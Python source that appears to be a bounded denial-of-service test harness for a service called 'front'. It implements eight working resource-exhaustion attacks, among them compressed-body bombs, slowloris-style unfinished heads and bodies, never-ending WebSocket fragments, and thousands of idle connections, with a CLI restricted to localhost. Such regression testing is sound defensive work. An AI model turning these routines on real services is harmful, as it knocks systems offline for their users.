"""What a hostile visitor does to front: each attack is bounded in connections, bytes and time, and ends by itself.

The sizes are those of the review that found the platform vulnerable: each killed a worker of front, or filled Redis for
good.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import gzip
import json
import os
import resource
import struct
import time
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field

ATTACKER = "198.51.100.66"
"""The address that the proxy before front saw (documentation range of RFC 5737)."""
_CONNECT_SECONDS = 5.0
COME_BACK_SECONDS = 10.0
"""Between two tries of a connection that is turned away or closed: an attack goes on until its time is up."""


@dataclass
class Target:
    """Front, how long to attack it, and what came of it: `seen` counts statuses and closed connections."""

    host: str
    port: int
    seconds: float
    seen: Counter[str] = field(default_factory=Counter)
    event_ids: list[str] = field(default_factory=list)
    """The ids of the attacker's own events that were answered with 200."""

    def __post_init__(self) -> None:
        self.deadline = time.monotonic() + self.seconds

    @property
    def over(self) -> bool:
        """Whether the time is up."""
        return time.monotonic() >= self.deadline


Attack = Callable[[Target], Awaitable[None]]


def raise_open_file_limit() -> None:
    """Let this process hold as many connections as the system allows."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


# --- attack 1: small packed bodies that are large events


async def packed_events(target: Target, connections: int = 16, unpacked_bytes: int = 100_000) -> None:
    """Send events of `unpacked_bytes`, which are 150 bytes on the wire."""
    body = gzip.compress(json.dumps({"pad": "x" * unpacked_bytes}).encode())
    request = _request("POST /track/fill.json", body, "Content-Encoding: gzip", "Content-Type: application/json")
    await asyncio.gather(*(_repeat(target, lambda: _send_all(target, request)) for _ in range(connections)))


# --- attack 4: a WebSocket's uid


async def long_websocket_uids(target: Target, connections: int = 50, uid_length: int = 7900) -> None:
    """Connect with a long new uid, send one event, leave; again and again."""

    async def visit() -> None:
        async with _websocket(target, uid=_random_text(uid_length)) as socket:
            await socket.send(json.dumps({"service": "track", "name": "uid"}).encode())
            await socket.receive()

    await asyncio.gather(*(_repeat(target, visit) for _ in range(connections)))


# --- attack 5: what is never finished


async def packed_websockets(target: Target, connections: int = 3500) -> None:
    """Open WebSockets with permessage-deflate, send one packed message of 3 kB in each, and stay."""
    message = json.dumps({"service": "track", "name": "packed", "pad": base64.b64encode(os.urandom(2200)).decode()})

    async def stay() -> None:
        async with _websocket(target, uid=_uid(), packed=True) as socket:
            await socket.send_packed(message.encode())
            await socket.receive()
            await _until_closed(target, socket.reader)

    await _gradually(target, stay, connections)


async def websocket_fragments(target: Target, connections: int = 4000, fragment_bytes: int = 90_000) -> None:
    """Send the first fragment of a message, and never the last one."""

    async def stay() -> None:
        async with _websocket(target, uid=_uid()) as socket:
            await socket.send(b"x" * fragment_bytes, final=False)
            await _until_closed(target, socket.reader)

    await _gradually(target, stay, connections)


async def endless_chunks(target: Target, connections: int = 120) -> None:
    """Send a chunked body in chunks of two bytes, and never the last one."""
    head = _head("POST /track/chunks.json", "Transfer-Encoding: chunked", "Content-Type: application/json")
    chunks = b"2\r\n11\r\n" * 2000

    async def send() -> None:
        async with _connection(target) as (reader, writer):
            writer.write(head)
            for _ in range(25):
                writer.write(chunks)
                await writer.drain()
                if reader.at_eof():
                    break
            await _until_closed(target, reader)

    await _gradually(target, send, connections)


async def unfinished_bodies(target: Target, connections: int = 2500, body_bytes: int = 100_000) -> None:
    """Send a body without its last byte."""
    head = _head("POST /track/body.json", f"Content-Length: {body_bytes}", "Content-Type: application/json")
    await _hold(target, head + b"x" * (body_bytes - 1), connections)


async def unfinished_heads(target: Target, connections: int = 5000) -> None:
    """Send 30 kB of a head, and no more."""
    await _hold(target, b"GET /track/head HTTP/1.1\r\nHost: front\r\nX-Pad: " + b"x" * 30_000, connections)


# --- attack 8: connections as such


async def many_connections(target: Target, connections: int = 3800) -> None:
    """Open connections and say nothing."""
    await _hold(target, b"", connections)


# --- the tools


def _head(line: str, *headers: str) -> bytes:
    return "\r\n".join([f"{line} HTTP/1.1", "Host: front", f"X-Real-IP: {ATTACKER}", *headers, "", ""]).encode()


def _request(line: str, body: bytes, *headers: str) -> bytes:
    return _head(line, f"Content-Length: {len(body)}", *headers) + body


def _random_text(length: int) -> str:
    return base64.urlsafe_b64encode(os.urandom(length)).decode()[:length]


def _uid() -> str:
    return str(10**10 + int.from_bytes(os.urandom(4)))


async def _tolerate(target: Target, visit: Awaitable[None]) -> None:
    """Count a visit that front refused or cut off; that is what it should do."""
    try:
        await visit
    except (OSError, TimeoutError, asyncio.IncompleteReadError) as error:
        target.seen[type(error).__name__] += 1


async def _repeat(target: Target, visit: Callable[[], Awaitable[None]]) -> None:
    """Visit again and again, slowly where nothing is to be had."""
    while not target.over:
        before = target.seen["101"] + target.seen["200"]
        await _tolerate(target, visit())
        if target.seen["101"] + target.seen["200"] == before:
            await asyncio.sleep(0.05)


async def _gradually(target: Target, visit: Callable[[], Awaitable[None]], connections: int) -> None:
    """Begin 100 visits every tenth of a second; each comes again some seconds after it was turned away or closed."""

    async def stay() -> None:
        while not target.over:
            await _tolerate(target, visit())
            await asyncio.sleep(min(COME_BACK_SECONDS, max(0.0, target.deadline - time.monotonic())))

    async with asyncio.TaskGroup() as group:
        for number in range(connections):
            if target.over:
                return
            group.create_task(stay())
            if number % 100 == 99:
                await asyncio.sleep(0.1)


async def _hold(target: Target, sent: bytes, connections: int) -> None:
    """Send the same over many connections and wait on each until front closes it or time is up."""

    async def stay() -> None:
        async with _connection(target) as (reader, writer):
            writer.write(sent)
            await _until_closed(target, reader)

    await _gradually(target, stay, connections)


async def _until_closed(target: Target, reader: asyncio.StreamReader) -> None:
    while not target.over:
        with contextlib.suppress(TimeoutError):
            data = await asyncio.wait_for(reader.read(4096), min(1.0, max(0.01, target.deadline - time.monotonic())))
            if not data:
                target.seen["closed"] += 1
                return
            if data.startswith(b"HTTP/1.1 "):
                target.seen[data[9:12].decode()] += 1


async def _send_all(target: Target, request: bytes) -> None:
    """Send the same request one time after the other over one connection."""
    async with _connection(target) as (reader, writer):
        while not target.over:
            writer.write(request)
            status, body = await _response(reader)
            target.seen[status] += 1
            if status == "200":
                target.event_ids.append(json.loads(body)["id"])
            elif status in {"429", "503"}:
                await asyncio.sleep(0.01)


async def _response(reader: asyncio.StreamReader) -> tuple[str, bytes]:
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)
    length = next(int(line[15:]) for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:"))
    return head[9:12].decode(), await reader.readexactly(length)


@contextlib.asynccontextmanager
async def _connection(target: Target) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    connecting = asyncio.open_connection(target.host, target.port)
    reader, writer = await asyncio.wait_for(connecting, _CONNECT_SECONDS)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


@dataclass
class _Socket:
    """A WebSocket client that may break the rules (RFC 6455)."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter

    async def send(self, payload: bytes, *, final: bool = True, packed: bool = False) -> None:
        """Send one frame of text, masked with zeros."""
        first = (0x80 if final else 0) | (0x40 if packed else 0) | 0x1
        if len(payload) < 126:
            size = struct.pack("!BB", first, 0x80 | len(payload))
        elif len(payload) < 65536:
            size = struct.pack("!BBH", first, 0x80 | 126, len(payload))
        else:
            size = struct.pack("!BBQ", first, 0x80 | 127, len(payload))
        self.writer.write(size + bytes(4) + payload)
        await self.writer.drain()

    async def send_packed(self, payload: bytes) -> None:
        """Send one message with permessage-deflate (RFC 7692)."""
        squeeze = zlib.compressobj(wbits=-15)
        data = squeeze.compress(payload) + squeeze.flush(zlib.Z_SYNC_FLUSH)
        await self.send(data.removesuffix(b"\x00\x00\xff\xff"), packed=True)

    async def receive(self) -> bytes:
        """Wait for anything that front sends."""
        return await asyncio.wait_for(self.reader.read(65536), 20)


@contextlib.asynccontextmanager
async def _websocket(target: Target, uid: str, *, packed: bool = False) -> AsyncIterator[_Socket]:
    """Open a WebSocket; ConnectionRefusedError where front answers anything but 101."""
    more = ["Sec-WebSocket-Extensions: permessage-deflate"] if packed else []
    head = _head(
        f"GET /wss?uid={uid}", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", *more,
    )  # fmt: skip
    async with _connection(target) as (reader, writer):
        writer.write(head)
        answer = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)
        target.seen[answer[9:12].decode()] += 1
        if not answer.startswith(b"HTTP/1.1 101"):
            raise ConnectionRefusedError
        yield _Socket(reader, writer)


ATTACKS: dict[str, Attack] = {
    "packed events fill Redis": packed_events,
    "long uids of WebSockets": long_websocket_uids,
    "thousands of packed WebSockets": packed_websockets,
    "WebSocket messages without an end": websocket_fragments,
    "bodies in chunks of two bytes": endless_chunks,
    "bodies without their last byte": unfinished_bodies,
    "heads without an end": unfinished_heads,
    "thousands of silent connections": many_connections,
}


def main() -> int:
    """Run one attack and print what front answered, as JSON."""
    parser = argparse.ArgumentParser(description="Attack a front of your own on this machine.")
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("--port", type=int, required=True, help="port on 127.0.0.1")
    parser.add_argument("--seconds", type=float, default=10.0)
    given = parser.parse_args()
    raise_open_file_limit()
    target = Target("127.0.0.1", given.port, given.seconds)
    asyncio.run(ATTACKS[given.name](target))
    print(json.dumps({"seen": target.seen, "event_ids": target.event_ids}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
